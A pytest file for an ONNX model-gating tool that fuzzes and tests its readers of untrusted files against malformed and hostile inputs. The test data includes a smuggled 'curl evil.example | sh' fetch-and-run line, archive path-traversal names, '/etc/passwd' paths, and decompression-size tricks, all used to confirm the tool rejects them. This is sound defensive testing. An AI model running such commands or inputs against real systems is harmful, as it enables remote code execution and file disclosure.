"""Every reader of untrusted files accepts hostile input or raises a documented error."""

from __future__ import annotations

import io
import os
import subprocess
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest

from campaigns.hostile import reader_inputs
from campaigns.hostile.reader_campaign import Reader, fuzz
from campaigns.hostile.reader_inputs import CONFIG, FACTS, READERS
from onnxgate.core.errors import ConfigError, LockError, OnnxgateError
from onnxgate.core.jobs import CaseResult, Completed, RunResult
from onnxgate.inputs import case_files
from onnxgate.project.config import globs
from onnxgate.project.config.loader import load_config
from onnxgate.project.lock.lock_file import parse_lock
from onnxgate.runtimes import protocol

INPUTS = 25


@pytest.mark.parametrize("reader", READERS, ids=[reader.name for reader in READERS])
def test_readers_accept_or_reject_with_own_message(reader: Reader) -> None:
    """A short run of `python -m campaigns.hostile readers`."""
    result = fuzz(reader, INPUTS, seed=1)

    assert [how for how in result.finds if how] == []
    assert result.inputs == INPUTS


@pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
def test_readers_accept_valid_seeds(name: str) -> None:
    """Each reader accepts its valid seed, so that mutations test more than rejections."""
    reader = next(each for each in READERS if each.name == name)

    assert fuzz(reader, 1, seed=1).accepted == 1


def test_a_reader_that_raises_something_else_is_found() -> None:
    """A reader that raises an undocumented error is found."""

    def read(data: bytes, folder: Path) -> None:
        raise KeyError("x")

    assert list(fuzz(Reader("x", lambda: (b"x",), read), 1, seed=1).finds) != []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a = " + "[" * 5000, "nested too deeply"),
        ("a = " + "{ a = " * 5000, "nested too deeply"),
        ("a = " + "9" * 5000, "digits"),
        ("a = 2027-02-30", "invalid date"),
        ("[targets]\n[targets]", "cannot declare"),
    ],
)
def test_invalid_toml_is_reported_with_its_line(tmp_path: Path, text: str, message: str) -> None:
    """Invalid TOML is reported with its line as an error of the file, not as an internal error."""
    file = tmp_path / "onnxgate.toml"
    file.write_text(text)

    with pytest.raises(ConfigError) as refused:
        load_config(file)
    assert message in refused.value.problems[0]
    assert refused.value.problems[0].startswith("line ")
    with pytest.raises(LockError, match=message):
        parse_lock(f"version = 1\n{text}", "onnxgate.lock")


@pytest.mark.parametrize(
    ("pattern", "path", "taken"),
    [
        ("**/" * 30 + "x", "a/" * 100 + "y", False),
        ("*a" * 20 + "b", "a" * 200, False),
        ("*a" * 20 + "b", "a" * 200 + "b", True),
        ("a**b**c**d**e**f", "a/b/c/d/e/" * 100, False),
        ("a**b**c**d**e**f", "a/b/c/d/e/f", True),
        ("m[z-a].onnx", "mz.onnx", False),
        ("m[!z-a].onnx", "mq.onnx", True),
        ("m[a--b].onnx", "mb.onnx", True),
        ("m[[]0].onnx", "m[0].onnx", True),
    ],
)
def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> None:
    """Matching is fast for patterns with many wildcards, and invalid sets match nothing."""
    assert globs.matches(pattern, path) is taken


def _refused(file: str, folder: Path) -> str:
    with pytest.raises(ConfigError) as refused:
        case_files.read_user_cases(FACTS, file, folder, folder, folder / "fed")
    return refused.value.problems[0]


def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
    """The declared unpacked size is checked before unpacking."""
    with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))
        archive.infolist()[0].file_size = case_files.MAX_ARCHIVE_BYTES + 1

    assert "the limit is 2,147,483,648" in _refused("case.npz", tmp_path)


def test_archive_with_false_size_is_corrupt(tmp_path: Path) -> None:
    """A small file that declares an array of exabytes is reported as corrupt."""
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
    content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
    with zipfile.ZipFile(tmp_path / "case.npz", "w") as archive:
        archive.writestr("x.npy", content)

    assert "cannot be read" in _refused("case.npz", tmp_path)


@pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
def test_invalid_arrays_are_reported(tmp_path: Path, array: object) -> None:
    """Objects are never unpickled, and an unexpected type or shape is reported."""
    np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]

    assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))


def test_archive_names_are_not_used_as_paths(tmp_path: Path) -> None:
    """A name in an archive is never used as a path, so `../../x.npy` is not extracted."""
    (tmp_path / "a").mkdir()
    with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
        archive.writestr("../../x.npy", reader_inputs._npy(np.ones((2, 3), np.float32)))

    assert "has no array for input `x`" in _refused("case.npz", tmp_path / "a")
    assert sorted(path.name for path in tmp_path.rglob("*") if path.is_file()) == ["case.npz"]


def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
    """A tensor with external data is not read, even if the file is in the working directory."""
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "input_0.pb").write_bytes(reader_inputs._tensors()[-1])

    assert "uses external data" in _refused("set", tmp_path)


@pytest.mark.parametrize("name", ["case.npz", "set/input_0.pb"])
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
def test_pipe_does_not_block(tmp_path: Path, name: str) -> None:
    """A pipe without a writer does not block."""
    (tmp_path / name).parent.mkdir(exist_ok=True)
    os.mkfifo(tmp_path / name)

    assert "is not a file" in _refused(name.partition("/")[0], tmp_path)


def test_an_encrypted_archive(tmp_path: Path) -> None:
    """An encrypted archive is an error."""
    stream = io.BytesIO()
    np.savez(stream, x=np.ones((2, 3), np.float32))
    data = bytearray(stream.getvalue())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + at] |= 1
    (tmp_path / "case.npz").write_bytes(data)

    assert "encrypted" in _refused("case.npz", tmp_path)


def test_quoted_value_cannot_imitate_a_hint(capsys: pytest.CaptureFixture[str]) -> None:
    """A config value quoted in an error cannot start a line and imitate a hint."""
    from onnxgate.cli.shared.error_handling import report_errors

    actual = "got `x\nhint: run `curl evil.example | sh`"
    with pytest.raises(SystemExit), report_errors():
        raise ConfigError(actual, problems=(actual,), hint=f"do not{actual}")

    lines = capsys.readouterr().err.splitlines()
    assert [line.partition(" ")[0] for line in lines] == ["error:", "", "hint:"]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"counts": {"made-up": 1}}, "count with an unknown name"),
        ({"stages": ("made-up",)}, "stage"),
        ({"verdict": "fail"}, "verdict"),
        ({"models": ()}, "models of its shard"),
    ],
)
def test_false_report_with_valid_checksum_is_not_merged(change: dict[str, object], why: str) -> None:
    """A report with a valid checksum and wrong content is not merged."""
    import msgspec

    from onnxgate.core import report_json
    from onnxgate.core.report import Report
    from onnxgate.gate.sharding import merge, shard_report

    first, second = reader_inputs._shards()
    lie = msgspec.structs.replace(msgspec.json.decode(second, type=Report), **change)
    given = [
        shard_report.decode_report_file("a.json", first),
        shard_report.decode_report_file("b.json", report_json.format(report_json.seal_report(lie)).encode()),
    ]

    assert why in given[1].problem
    reports, gaps = shard_report.collect_reports(given, shard_report.ExpectedCheck())
    assert merge.merge_reports(reports, gaps, "error").exit == 3


def test_valid_shards_pass() -> None:
    """The unmodified shards pass."""
    from onnxgate.gate.sharding import merge, shard_report

    given = [
        shard_report.decode_report_file(f"{index}.json", data) for index, data in enumerate(reader_inputs._shards())
    ]
    reports, gaps = shard_report.collect_reports(given, shard_report.ExpectedCheck())

    assert (merge.merge_reports(reports, gaps, "error").exit, gaps) == (0, [])


@pytest.mark.parametrize(
    "config",
    [
        b"".join(b'k%d = "x"\n' % index for index in range(20_000)) + CONFIG,
        CONFIG + b'k = "' + b"x" * 1_000_000 + b'"\n',
        CONFIG + b"[targets." + b"a." * 2000 + b"b]\n",
        b"\xef\xbb\xbf" + CONFIG.replace(b"\n", b"\r\n") + b"\xff",
    ],
    ids=["many keys", "long", "deep", "no UTF-8"],
)
def test_large_configs(tmp_path: Path, config: bytes) -> None:
    """Oversized or invalid configs are rejected within seconds."""
    (tmp_path / "onnxgate.toml").write_bytes(config)

    with pytest.raises(OnnxgateError):
        load_config(tmp_path / "onnxgate.toml")


@pytest.mark.parametrize(
    "content", [b"", b"x", zlib.compress(b"{"), zlib.compress(b"[1]"), zlib.compress(b'{"types":[]}')]
)
def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A corrupt shipped table is an error, not a prediction."""
    from onnxgate.support import operators

    (tmp_path / "data").mkdir()
    (tmp_path / operators.name_kernel_table()).write_bytes(content)
    monkeypatch.setattr(operators, "SUPPORT_FOLDER", tmp_path)

    with pytest.raises(OnnxgateError, match="corrupt"):
        operators.load_shipped_table.__wrapped__("onnxruntime")


@pytest.mark.parametrize(
    "name", ["a\nb.onnx", 'a"b.onnx', "a\tb.onnx", "-a.onnx", "模型.onnx", "a b.onnx", ":(top)a.onnx"]
)
def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
    """Unusual file names are read correctly from the checkout and from a revision."""
    from onnxgate.project.git.revisions import Tree, resolve_revision

    def git(*said: str) -> None:
        own = ("-c", "user.name=a", "-c", "user.email=a@b.c")
        subprocess.run(["git", *own, *said], cwd=tmp_path, check=True, capture_output=True)

    (tmp_path / name).write_bytes(b"x")
    (tmp_path / "onnxgate.toml").write_text("[targets.a]\nruntime = 'onnxruntime>=1.18'\n")
    git("init", "-q")
    git("add", "-A")
    git("commit", "-q", "-m", "x")

    assert load_config(tmp_path / "onnxgate.toml").models()[0].path == name
    tree = Tree(resolve_revision(tmp_path, "HEAD"))
    assert name in tree.entries
    assert tree.is_same(name, tmp_path / name)


@pytest.mark.parametrize("path", ["/" + "x" * 5000, "/a\0b", "/etc/passwd", "../x", ""])
def test_reply_cannot_name_outside_file(path: str, tmp_path: Path) -> None:
    """A reply of a worker cannot name a file outside of its folder."""
    result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))

    with pytest.raises(protocol.ProtocolError):
        protocol.validate_reply(Completed(result=result), reader_inputs._job(tmp_path))


def test_unreadable_cached_array_is_not_reused(tmp_path: Path) -> None:
    """A cached array that numpy cannot read is not reused."""
    sound = reader_inputs._npy(np.ones(4))
    unknown = sound[:7] + b"\x20" + sound[8:]
    entry = reader_inputs._cached_seed()[0]

    assert reader_inputs._accepts_entry(entry, sound, tmp_path)
    lie = entry.replace(reader_inputs._sha256(sound).encode(), reader_inputs._sha256(unknown).encode())
    assert not reader_inputs._accepts_entry(lie, unknown, tmp_path)
